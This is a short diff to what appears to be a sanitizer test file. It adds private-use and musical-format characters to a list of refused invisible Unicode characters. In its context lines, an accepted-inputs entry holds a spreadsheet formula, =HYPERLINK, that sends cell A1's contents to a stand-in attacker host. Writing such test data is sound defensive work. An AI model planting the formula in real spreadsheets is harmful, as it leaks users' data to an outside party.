@@ -31,6 +31,8 @@ REFUSED = {
     "hangul_fillers": "\u3164\u115f\uffa0",
     "tags": "\U000e0041\U000e0042",
     "variation_selectors": "\ufe0f\ufe0e",
+    "private_use": "\ue000\U000f0000",
+    "musical_format": "\U0001d173",
 }
 ACCEPTED = {
     "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
